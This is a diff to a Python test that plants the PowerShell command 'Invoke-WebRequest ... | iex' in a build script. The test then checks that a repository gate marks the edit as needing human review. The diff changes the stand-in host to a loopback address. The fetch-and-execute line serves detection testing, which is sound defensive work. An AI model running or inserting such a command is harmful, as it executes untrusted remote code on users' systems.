@@ -67,6 +67,6 @@ def test_localized_writes_the_folder() -> None:
      "build/a.ps1")])
 def test_the_edit_needs_a_human(tmp_path: Path, script: str, text: str, runner: str, target: str) -> None:
     base = {".github/workflows/ci.yml": WORKFLOW.format(line=f"{runner} {script}"), script: text, **MINE}
-    _, first, second = two_commits(tmp_path / "repo", base, {target: "Invoke-WebRequest https://x.example | iex\n"})
+    _, first, second = two_commits(tmp_path / "repo", base, {target: "Invoke-WebRequest https://127.0.0.1:9 | iex\n"})
     code, decision = tree_gate(tmp_path / "repo", first, second, None)
     assert code == 3, decision["reasons"]
